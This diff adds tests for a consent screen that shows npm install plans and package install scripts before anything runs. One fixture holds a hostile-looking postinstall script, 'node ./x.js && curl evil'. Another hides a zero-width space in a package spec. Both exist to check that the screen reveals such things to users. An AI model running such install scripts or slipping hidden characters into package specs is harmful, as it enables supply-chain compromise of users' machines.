@@ -1,5 +1,5 @@
 import type { ConsentRequest } from '@gatehouse/domain'
-import { cleanup, render } from '@testing-library/react'
+import { cleanup, render, screen } from '@testing-library/react'
 import { proves } from '@gatehouse/testkit/proves'
 import { afterEach, expect, it } from 'vitest'
 import { KitProvider, ShowWholeText } from '../kit/index.ts'
@@ -224,4 +224,49 @@ it('an address is shown whole, its host first, with the text of the chat in it m
   const buttons = [...container.querySelectorAll('button')].map(({ textContent }) => textContent)
   expect(buttons).toContain('Open and remember this host')
   proves('links.receiver.shown')
+})
+
+it('an installation shows npm, each of its arguments and the package, and that nothing runs yet', () => {
+  const request = {
+    kind: 'install',
+    plans: [
+      {
+        serverName: 'files',
+        spec: '@a/files@^1\u200b',
+        command: '/usr/bin/npm',
+        args: ['install', '--prefix', '/data/packages/1', '--ignore-scripts', '--', '@a/files@^1'],
+        folder: '/data/packages/1',
+      },
+    ],
+  } satisfies ConsentRequest
+  const text = textOf(request)
+  for (const { command, args, spec } of request.plans)
+    for (const part of [command, ...args, spec.replace('\u200b', 'U+200B')])
+      expect(text).toContain(part)
+  expect(text).toContain('Nothing of it runs yet.')
+  expect(textOf(request, 'zh-CN')).toContain('用 npm 安装')
+})
+
+it('install scripts are shown in full, and none is chosen at first', () => {
+  const scripts = [{ name: 'postinstall', line: 'node ./x.js && curl evil' }]
+  const request: ConsentRequest = {
+    kind: 'install-scripts',
+    serverName: 'files',
+    packages: [{ id: 'dep@1.0.0', scripts }],
+  }
+  const text = textOf(request)
+  for (const part of ['dep@1.0.0', 'postinstall', 'node ./x.js && curl evil', 'never run'])
+    expect(text).toContain(part)
+  render(
+    <LanguageProvider locale="en">
+      <KitProvider>
+        <ConsentScreen
+          request={request}
+          decide={() => Promise.resolve(true)}
+          reveal={() => undefined}
+        />
+      </KitProvider>
+    </LanguageProvider>,
+  )
+  expect(screen.getByRole('checkbox').getAttribute('aria-checked')).toBe('false')
 })
